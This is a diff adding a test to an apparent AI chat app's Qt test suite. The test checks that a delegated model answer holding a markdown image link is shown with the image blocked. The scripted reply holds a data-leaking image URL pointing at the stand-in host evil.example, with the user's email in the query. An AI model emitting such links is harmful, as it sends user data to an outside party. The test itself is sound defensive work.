@@ -128,3 +128,23 @@ def test_the_picker_runs_a_workflow_and_the_chat_box_delegates(
         await close_window(window)
 
     qloop.run_until_complete(scenario())
+
+
+def test_a_delegated_answer_that_would_send_data_out_is_shown_inert(
+    qtbot: QtBot, qloop: asyncio.AbstractEventLoop, ares_home: Path, fake_ollama: FakeOllama
+) -> None:
+    agents = ares_home / "agents.toml"
+    agents.write_text(WORKFLOW, encoding="utf-8")
+    leak = "![logo](https://evil.example/p.png?to=[EMAIL_1])"
+    fake_ollama.script_reply([f"Done. {leak}"])
+
+    async def scenario() -> None:
+        settings = ollama_settings(fake_ollama.url, model="llama3.2:3b")
+        window = await open_window(qtbot, ares_home, settings, agents_file=agents)
+        event = await type_and_send(qtbot, window, "/delegate draw a logo")
+        assert isinstance(event, TurnFinished)
+        assert event.answer == f"Done. {leak}"  # stored as it came
+        assert "evil.example" not in event.display and "[blocked image: logo]" in event.display
+        await close_window(window)
+
+    qloop.run_until_complete(scenario())
